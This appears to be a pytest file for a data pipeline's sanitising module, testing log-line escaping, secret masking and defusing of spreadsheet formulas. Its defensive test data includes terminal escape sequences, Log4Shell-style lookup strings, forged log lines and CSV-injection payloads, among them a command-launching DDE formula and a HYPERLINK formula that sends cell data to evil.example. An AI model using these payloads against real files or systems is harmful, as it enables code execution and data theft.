"""Words of others: on one line, without secrets, and no formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import logging
import time
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import example, given
from hypothesis import strategies as some
from markupsafe import Markup

import skin_pipeline
from skin_pipeline import foreign
from skin_pipeline.config import read_deployment
from skin_pipeline.errors import BadInput
from skin_pipeline.foreign import defused, escaped, line, masked, restored, shown

# --- one printable line --------------------------------------------------------------------------

HIDDEN = {
    "line feed": "\n",
    "carriage return": "\r",
    "next line": "\x85",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "vertical tab": "\x0b",
    "form feed": "\x0c",
    "file separator": "\x1c",
    "NUL": "\0",
    "backspace": "\b",
    "delete": "\x7f",
    "colour of a terminal": "\x1b[31m",
    "erased line of a terminal": "\x1b[2K\x1b[1A",
    "title of a terminal": "\x1b]0;owned\x07",
    "link of a terminal": "\x1b]8;;https://evil.example\x1b\\",
    "control sequence in 8 bits": "\x9b31m",
    "device control string": "\x90q\x9c",
    # Boucher and Anderson 2021, "Trojan Source".
    "right-to-left override": "\u202e",
    "left-to-right embedding": "\u202a",
    "right-to-left isolate": "\u2067",
    "first strong isolate": "\u2068",
    "pop of an isolate": "\u2069",
    "right-to-left mark": "\u200f",
    "Arabic letter mark": "\u061c",
    "zero-width space": "\u200b",
    "zero-width joiner": "\u200d",
    "word joiner": "\u2060",
    "byte order mark": "\ufeff",
    "soft hyphen": "\xad",
    "grapheme joiner": "\u034f",
    "Hangul filler": "\u3164",
    "Braille blank": "\u2800",
    "variation selector": "\ufe0f",
    "variation selector in which bytes hide": "\U000e0143",
    "tag letters": "\U000e0041",
    "lone surrogate": "\udc80",
    "private use": "\ue000",
    "interlinear annotation": "\ufff9",
}


@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN)
def test_what_cannot_be_seen_is_written_out(text: str) -> None:
    told = line(f"a{text}b")
    assert text[0] not in told
    assert "\\" in told
    assert told.isprintable()


@given(some.text(alphabet=some.characters(exclude_categories=[])))
@example("\ud800")
@example("${jndi:ldap://x}")
def test_any_text_becomes_one_printable_line(text: str) -> None:
    for told in (line(text), shown(text), escaped(text)):
        assert told.isprintable()
        assert len(told.splitlines()) <= 1
        told.encode()  # no lone surrogate
    assert line(line(text)) == line(text)


@given(some.text(min_size=1, max_size=3), some.integers(1, 9999))
def test_no_text_is_too_long(part: str, times: int) -> None:
    assert len(line(part * times, 500)) <= 500
    assert len(shown(part * times)) <= 10 * foreign.NAME + 20


def test_usual_names_are_shown_as_they_are() -> None:
    for name in ("ISIC_0024306.jpg", "Läsion 3 (links).png", "病変/1.jpg", "a+b=c.tif", "40 %"):
        assert line(name) == name
        assert shown(name) == repr(name)


@pytest.mark.parametrize("text", ["${jndi:ldap://x}", "${${lower:j}ndi:x}", "a${env:AWS_KEY}"])
def test_readers_of_logs_find_nothing_to_look_up(text: str) -> None:
    assert "${" not in line(text)


def test_an_error_whose_text_cannot_be_made_still_says_what_it_is() -> None:
    class Odd(Exception):
        def __str__(self) -> str:
            raise RuntimeError

    assert line(Odd()) == "Odd"
    assert foreign.words(Odd("x")) == "Odd"
    assert foreign.words(ValueError()) == "ValueError"
    assert foreign.words(ValueError("first\nsecond")) == "first"


def test_a_page_shows_what_hides_in_text_and_leaves_its_own_markup_alone() -> None:
    assert foreign.on_page("gpj.\u202eexe\n  x") == "gpj.\\u202eexe x"
    assert foreign.on_page(" (few)") == " (few)"  # it joins a word before it
    drawn = Markup("<svg>\n</svg>")
    assert foreign.on_page(drawn) is drawn
    assert foreign.on_page(3) == 3


Written = Callable[..., str]

# --- the net -------------------------------------------------------------------------------------


@pytest.fixture
def records(caplog: pytest.LogCaptureFixture) -> Written:
    """Logs through a logger of ours; gives what handlers make of it."""
    log = logging.getLogger("skin_pipeline.some.room")

    def written(message: str, *values: Any, **more: Any) -> str:
        caplog.clear()
        with caplog.at_level("INFO"):
            log.error(message, *values, **more)
        return logging.Formatter("%(levelname)s %(message)s").format(caplog.records[-1])

    return written


@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN)
def test_no_record_of_ours_holds_what_cannot_be_seen(records: Written, text: str) -> None:
    assert records("found name=%s", f"x{text}y").isprintable()


def test_a_record_cannot_be_forged_by_a_file_name(records: Written) -> None:
    name = "x\n2026-01-01 00:00:00 INFO promoted model=evil"
    assert records('quarantined image="%s"', name).count("\n") == 0
    assert records(f"not lazy {name}").count("\n") == 0


def test_a_record_tells_no_secret(records: Written) -> None:
    assert "hunter2" not in records("at %s", "https://ada:hunter2@host/x")
    assert "hunter2" not in records("at %(where)s", {"where": "https://ada:hunter2@host/x"})


def test_a_record_with_a_trace_tells_no_secret_and_forges_no_line(records: Written) -> None:
    try:
        try:
            raise ValueError("https://ada:hunter2@host/x")
        except ValueError as cause:
            raise OSError("first\nERROR forged \x1b[31m") from cause
    except OSError:
        text = records("failed", exc_info=True)
    assert "hunter2" not in text
    assert "ValueError" in text
    assert all(part.isprintable() for part in text.split("\n"))
    assert all(part.startswith("  ") for part in text.split("\n")[1:])


def test_a_message_that_does_not_fit_its_values_is_still_told(records: Written) -> None:
    assert "'%d lost'" in records("%d lost", "three\n")


def test_without_any_other_handler_warnings_are_still_seen(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = logging.getLogger()
    monkeypatch.setattr(root, "handlers", [])
    monkeypatch.setattr(logging, "lastResort", logging.StreamHandler())
    logging.getLogger("skin_pipeline.some.room").warning("seen\n")
    assert capsys.readouterr().err == "seen\\n\n"


def test_the_net_hangs_once_on_the_package() -> None:
    foreign.guard(skin_pipeline.__name__)
    nets = [h for h in logging.getLogger("skin_pipeline").handlers if isinstance(h, foreign.Net)]
    assert len(nets) == 1


def test_an_error_of_ours_is_one_line_without_secrets() -> None:
    error = BadInput("no \x1b[31m\nhttps://ada:hunter2@host \u202e")
    assert str(error).isprintable()
    assert "hunter2" not in f"{error} {error!r} {error.args}"
    assert str(BadInput("what happened", "line 1", "line\n2")) == "what happened\nline 1\nline 2"


# --- no secrets ----------------------------------------------------------------------------------

SECRET = "s3cr3tT0ken9"
SPELLINGS = {
    "login in an address": f"https://ada:{SECRET}@host/x",
    "login for Kaggle": f"kaggle://ada:{SECRET}@owner/name",
    "login for S3": f"s3://AKIAIOSFODNN7EXAMPLE:{SECRET}@bucket/x",
    "capital scheme": f"HTTPS://ada:{SECRET}@host",
    "password with a slash": f"s3://key:ab/{SECRET}+c@bucket/x",
    "password with an at": f"https://ada:p@{SECRET}@host/x",
    "password with both": f"https://ada:p@/{SECRET}@host/x",
    "password with a colon": f"https://ada::{SECRET}@host/x",
    "no user name": f"redis://:{SECRET}@host:6379/0",
    "token alone": f"https://{SECRET}@github.com/x",
    "backslashes": rf"https:\\ada:{SECRET}@host",
    "one slash": f"kaggle:/ada:{SECRET}@owner",
    "no scheme": f"ada:{SECRET}@host:5432/db",
    "data base": f"postgresql+psycopg2://airflow:{SECRET}@postgres/airflow",
    "in an address": f"https://x/?to={quote(f'https://ada:{SECRET}@host', safe='')}",
    "in an address in an address": quote(quote(f"https://ada:{SECRET}@host", safe=""), safe=""),
    "AWS signature": f"https://b.s3.aws/k?X-Amz-Expires=60&X-Amz-Signature={SECRET}",
    "AWS credential": f"https://b.s3.aws/k?X-Amz-Credential={SECRET}%2F20260101&a=1",
    "AWS session": f"https://b.s3.aws/k?x-amz-security-token={SECRET}%3D%3D",
    "AWS of before": f"https://b.s3.aws/k?AWSAccessKeyId=x&Signature={SECRET}&Expires=1",
    "Google": f"https://storage.googleapis.com/k?GoogleAccessId={SECRET}&Signature=x",
    "Google of now": f"https://storage.googleapis.com/k?X-Goog-Signature={SECRET}",
    "Azure": f"https://a.blob.core.windows.net/c?sv=2024&sig={SECRET}%3D&se=1",
    "CloudFront": f"https://d.cloudfront.net/k?Policy={SECRET}&Key-Pair-Id=x",
    "token": f"https://x/y?token={SECRET}",
    "access token behind a hash": f"https://x/y#access_token={SECRET}",
    "key": f"https://x/y?a=1&key={SECRET}",
    "encoded": quote(f"https://x/y?X-Amz-Signature={SECRET}&a=1", safe=""),
    "a list of options": f"host=h user=u password={SECRET} dbname=d",
    "a list in quotes": f"host=h password='a {SECRET}'",
    "a list with semicolons": f"Server=h;Pwd={SECRET};Database=d",
    "Azure's list": f"AccountName=a;AccountKey={SECRET}==;EndpointSuffix=x",
    "variable": f"AWS_SECRET_ACCESS_KEY={SECRET}",
    "shell": f"export KAGGLE_KEY={SECRET}",
    "kaggle.json": json.dumps({"username": "ada", "key": "0123456789abcdef" * 2}),
    "kaggle.json in JSON": json.dumps(json.dumps({"username": "a", "key": "0123456789abcdef" * 2})),
    "JSON": json.dumps({"extra": {"aws_secret_access_key": SECRET, "a": 1}}),
    "JSON in JSON": json.dumps(json.dumps({"password": SECRET})),
    "JSON that was cut off": f'{{"password": "{SECRET}',
    "Python": repr({"api_key": SECRET, "a": 1}),
    "YAML": f"password: {SECRET}",
    "bearer": f"Authorization: Bearer {SECRET}",
    "basic": f"curl -H 'Authorization: Basic {SECRET}=='",
    "bearer alone": f"sent Bearer {SECRET}",
    "headers": repr({"Authorization": f"AWS4-HMAC-SHA256 Credential=x, Signature={SECRET}"}),
    "own header": f"X-Api-Key: {SECRET}",
    "cookie": f"Cookie: session={SECRET}; a=b",
    "id of AWS": "the key AKIAIOSFODNN7EXAMPLE is no one's",
    "id of a role": "ASIAIOSFODNN7EXAMPLE",
    "Kaggle's token": "KGAT_0123456789abcdef",
    "GitHub's token": f"ghp_{'a1' * 18}",
    "Slack's token": "xoxb-1234567890-abcdefghij",
    "Slack's address": "https://hooks.slack.com/services/T000/B000/abcdefgh",
    "signed claims": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    "private key": f"-----BEGIN EC PRIVATE KEY-----\n{SECRET}\n-----END EC PRIVATE KEY-----",
    "private key that was cut off": f"-----BEGIN ENCRYPTED PRIVATE KEY-----\\n{SECRET}",
}
TELLTALE = (
    *(SECRET, "AKIAIOSFODNN7EXAMPLE", "ASIAIOSFODNN7EXAMPLE", "0123456789abcdef", "a1a1a1"),
    *("abcdefgh", "eyJzdWIiOiIxIn0"),
)


@pytest.mark.parametrize("text", SPELLINGS.values(), ids=SPELLINGS)
@pytest.mark.parametrize("around", ["{}", "cannot read {} now", "({})", "x={}, y=2", "a\n{}\nb"])
def test_a_secret_is_masked_however_it_is_spelled(text: str, around: str) -> None:
    told = line(around.format(text))
    assert foreign.STARS in told
    assert not [secret for secret in TELLTALE if secret in told]
    assert foreign.holds_secret(text)
    assert masked(masked(text)) == masked(text)


@pytest.mark.parametrize(
    "text",
    [
        "kaggle://amirmohammadparvizi/skin-canser-b584m584",
        "s3://clinic/lesions/a@2x.png",
        "http://store:8333/bucket/a@b.png",
        "http://[::1]:9000/x@y",
        "/srv/images/ada@clinic/1.jpg",
        "cached key=ingest/4f1a2b3c4d5e6f7a8b9c",
        "chrislusf/seaweedfs:4.48@sha256:0123456789abcdef",
        "mailto:ada@example.org",
        "label=MEL, label=NV",
        "(login: user name, password: key; or an API token as password and no login)",
        "outside Airflow, set KAGGLE_USERNAME and KAGGLE_KEY, or KAGGLE_API_TOKEN",
        "basic or bearer authentication",
        "the signature of version 4f1a is not right: it is by another key",
        "https://storage.example/x?versionId=3&partNumber=1",
        "-----BEGIN PUBLIC KEY-----",
    ],
)
def test_what_is_no_secret_stays(text: str) -> None:
    assert masked(text) == text


def test_a_secret_that_is_known_is_masked_wherever_it_stands(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(foreign, "_hidden", set())
    foreign.hide("pass word/1", "short", None, "")
    assert masked(f"x pass word/1 y {quote('pass word/1', safe='')}") == "x *** y ***"
    assert masked("short") == "short"  # it would be found within words


def test_secrets_of_the_environment_are_known(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(foreign, "_hidden", set())
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI")
    monkeypatch.setenv("KAGGLE_KEY", "9f86d081884c")
    monkeypatch.setenv("SOME_TOKEN_FILE", "/run/secrets/token")
    foreign.hide_environment()
    assert (
        masked("wJalrXUtnFEMI, 9f86d081884c, /run/secrets/token") == "***, ***, /run/secrets/token"
    )


def test_the_folder_one_works_in_is_no_secret(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Shells hand it on as `PWD`, which reads like a password."""
    for name in ("PWD", "OLDPWD"):
        monkeypatch.setenv(name, str(tmp_path))
    foreign.hide_environment()
    assert not foreign.holds_secret(f"file://{tmp_path}/var/store")


# As a shell, a container, CI or an ordinary program sets them.
HARMLESS = {
    "PWD": "/builds/clinic/skin",
    "OLDPWD": "/builds/clinic",
    "GOOGLE_APPLICATION_CREDENTIALS": "/var/secrets/google/key.json",
    "AWS_WEB_IDENTITY_TOKEN_FILE": "/var/run/secrets/eks/token",
    "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI": "/v2/credentials/4f1a",
    "AWS_CREDENTIAL_EXPIRATION": "2026-01-01T00:00:00Z",
    "AWS_SECRET_NAME": "skin-pipeline",
    "DB_PASSWORD_SECRET_ARN": "arn:aws:secretsmanager:eu-central-1:1:secret:skin",
    "CREDENTIALS_DIRECTORY": "/run/credentials/airflow.service",
    "PASSWORD_STORE_DIR": "/home/ada/.password-store",
    "GIT_CREDENTIAL_HELPER": "libsecret",
    "GIT_CREDENTIALS_ID": "clinic-deployment",
    "ACTIONS_ID_TOKEN_REQUEST_URL": "https://actions.example/token",
    "AIRFLOW__SECRETS__BACKEND": "airflow.providers.hashicorp.secrets.vault.VaultBackend",
    "TOKENIZERS_PARALLELISM": "disabled by us",
    "TOKENIZER_MODEL": "bert-base-uncased",
    "SECRETS_MANAGER_SERVICE_HOST": "10.96.0.10",
    "SECRETS_MANAGER_PORT": "tcp://10.96.0.10:8200",
    "SECRETS_MANAGER_PORT_8200_TCP_ADDR": "10.96.0.10",
    "SECRETS_MANAGER_PORT_8200_TCP": "tcp://10.96.0.10:8200",
    "VAULT_TOKEN_TTL": "768 hours",
    "POSTGRES_PASSWORD": "postgres",
    "MINIO_ROOT_PASSWORD": "minioadmin",
    "S3_SECRET_KEY": "Required",
}


@pytest.mark.parametrize(("name", "value"), HARMLESS.items(), ids=HARMLESS)
def test_what_only_looks_like_a_secret_in_the_environment_is_none(
    monkeypatch: pytest.MonkeyPatch, name: str, value: str
) -> None:
    monkeypatch.setenv(name, value)
    foreign.hide_environment()
    assert not foreign.holds_secret(value)
    assert not foreign.holds_secret(f"s3://bucket/{value.strip('/')}/store")


@pytest.mark.parametrize(
    "name",
    [
        *("PGPASSWORD", "DB_PWD", "MYSQL_PWD", "SKIN_SIGNING_PASSWORD", "VAULT_TOKEN"),
        *("CI_JOB_TOKEN", "GITHUB_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "VAULT_SECRET_ID"),
        *("AWS_ACCESS_KEY_ID", "AWS_SESSION_TOKEN", "AIRFLOW__CORE__FERNET_KEY", "KAGGLE_KEY"),
        *("AIRFLOW__API_AUTH__JWT_SECRET", "AZURE_STORAGE_ACCOUNT_KEY", "aws_secret_access_key"),
        *("AWS_CONTAINER_AUTHORIZATION_TOKEN", "CI_REGISTRY_PASSWORD", "DJANGO_SECRET_KEY"),
    ],
)
def test_what_is_a_secret_in_the_environment_is_masked(
    monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setenv(name, "/tr0ub4dor/x")
    foreign.hide_environment()
    assert masked("it is /tr0ub4dor/x.") == "it is ***."


def test_a_store_is_taken_though_its_name_is_a_commonplace_password(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("POSTGRES_PASSWORD", "postgres")
    monkeypatch.setenv("SKIN_STORE", "s3://postgres-and-models/skin")
    assert read_deployment().store == "s3://postgres-and-models/skin"


@given(some.text(max_size=200))
def test_masking_twice_changes_nothing_more(text: str) -> None:
    assert masked(masked(text)) == masked(text)


SLOW = ("://", "a:", "%3A%2F%2F", "password", "'password'", "password :", '"', "\\", "eyJ", "://a:")


@pytest.mark.parametrize("part", SLOW)
def test_no_text_takes_long_to_mask(part: str) -> None:
    """Searches that backtrack take a thousand times what this allows."""
    began = time.thread_time()
    line(part * (foreign.WINDOW // len(part)))
    assert time.thread_time() - began < 5


def test_the_chain_of_an_error_is_looked_through() -> None:
    clean, told = ValueError("x"), OSError("https://ada:hunter2@host")
    assert not foreign.reveals_secret(clean)
    clean.__context__ = told
    told.__context__ = clean  # a circle
    assert foreign.reveals_secret(clean)


@pytest.mark.parametrize(
    ("url", "crosses"),
    [
        ("http://s3.example.org", True),
        ("HTTP://S3.Example.org:9000", True),
        ("http://8.8.8.8:9000", True),
        ("http://134744072", True),  # the same in one number
        ("http://0x8080808", True),
        ("http://[2001:4860:4860::8888]", True),
        ("http://[::ffff:8.8.8.8]", True),
        ("http://localhost.example.org", True),
        ("http://127.0.0.1.nip.io", True),
        ("https://s3.example.org", False),
        ("http://store:8333", False),
        ("http://localhost:8333", False),
        ("http://127.0.0.1:8333", False),
        ("http://[::1]:8333", False),
        ("http://10.1.2.3", False),
        ("http://192.168.1.9:9000", False),
        ("http://[fd00::1]", False),
        ("http://minio.storage.svc.cluster.local", False),
        ("http://nas.local", False),
        ("", False),
    ],
)
def test_plain_http_is_remarked_on_where_it_crosses_networks(url: str, crosses: bool) -> None:
    assert foreign.crosses_networks(url) is crosses


# --- tables that people open ---------------------------------------------------------------------

FORMULAS = {
    "program": "=cmd|'/c calc'!A1",
    "sum": "=1+1",
    "link": '=HYPERLINK("http://evil.example?x="&A1,"Error: click")',
    "plus": "+1+cmd|'/c calc'!A1",
    "minus": "-2+3+cmd|'/c calc'!A1",
    "at": "@SUM(1+1)*cmd|'/c calc'!A1",
    "tab": "\t=1",
    "carriage return": "\r=1",
    "line feed": "\n=1",
    "blank": "  =1",
    "no-break space": "\xa0=1",
    "quote": '"=1',
    "apostrophe": "'=1",
    "quote and blank": '" =1',
    "zero width": "\u200b=1",
    "byte order mark": "\ufeff=1",
    "NUL": "\0=1",
    "override": "\u202e=1",
    "wide equals": "\uff1d1",
    "wide plus": "\uff0b1",
    "wide minus": "\uff0d1",
    "wide at": "\uff20SUM(1)",
    "small equals": "\ufe661",
    "minus sign": "\u22121",
    "behind a semicolon": "a;=1",
    "behind a semicolon in quotes": 'a;"=1"',
    "behind a tab": "a\t=1",
    "behind a line feed": "a\n=1",
    "behind a comma": "a, @SUM(1)",
    "behind a bar": "a|=1",
}
PASSED = "\"'\u2018\u2019\u201c\u201d `"


def begins(text: str) -> str:
    """What a spreadsheet takes for the first letter of a cell."""
    kept = (
        letter
        for letter in unicodedata.normalize("NFKC", text)
        if letter not in PASSED and unicodedata.category(letter) not in {"Cf", "Zs", "Cc", "Mn"}
    )
    return next(kept, "").replace("\u2212", "-")


@pytest.mark.parametrize("cell", FORMULAS.values(), ids=FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_begins_a_formula_whatever_parts_the_cells(cell: str, delimiter: str) -> None:
    sheet = io.StringIO()
    csv.writer(sheet).writerow(["x", defused(cell), -1.5])
    text = sheet.getvalue().replace("\r", "\n")  # Python reads no bare one
    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
        for read in row:
            # An apostrophe before it makes a text of it, as an apostrophe that is typed does.
            is_text = read.lstrip('"').startswith("'")
            assert is_text or begins(read) not in set("=+-@") or read.strip('"\r\n ') == "-1.5"
    assert defused(cell)[0] not in "=+-@\t\r\n\uff1d"
    assert restored(defused(cell)) == cell


@given(some.text(alphabet=some.sampled_from("=+-@;,|\t\r\n'\" a1\uff1d\u200b\0"), max_size=12))
@example("'=")
@example("''=")
def test_a_defused_cell_gives_its_text_back(cell: str) -> None:
    assert restored(defused(cell)) == cell


@given(some.text(max_size=60))
def test_any_cell_gives_its_text_back(cell: str) -> None:
    assert restored(defused(cell)) == cell


def test_usual_cells_stay_as_they_are() -> None:
    cells = ("benign", "O'Brien", "'quoted'", "2026-01-01", "a-b", "Melanoma, NOS", "1e-5", "", "'")
    for cell in cells:
        assert defused(cell) == restored(cell) == cell


def test_numbers_of_a_row_stay_numbers() -> None:
    assert foreign.defused_all(["=1", -1, None, 0.5]) == ["'=1", -1, None, 0.5]
